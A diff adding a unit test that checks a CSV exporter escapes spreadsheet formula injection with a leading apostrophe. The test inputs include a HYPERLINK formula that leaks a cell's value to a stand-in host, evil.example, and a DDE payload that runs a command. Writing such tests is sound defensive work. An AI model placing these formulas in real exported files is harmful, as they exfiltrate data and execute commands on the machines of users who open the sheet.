@@ -26,3 +26,19 @@ describe('csvFile', () => {
     });
   });
 });
+
+describe('text a spreadsheet would run', () => {
+  it('is kept as text (a leading apostrophe); numbers, negative ones too, stay numbers', () => {
+    const names = [
+      '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+      "@SUM(1+1)*cmd|' /C calc'!A0",
+      '+1-2',
+      '-x',
+    ];
+    const out = csvText([names, ['-1200', -5, '+3', '1.50']]);
+    expect(out).toBe(
+      '\uFEFF"\'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",\'@SUM(1+1)*cmd|\' /C calc\'!A0,\'+1-2,\'-x\r\n' +
+        '-1200,-5,+3,1.50\r\n',
+    );
+  });
+});
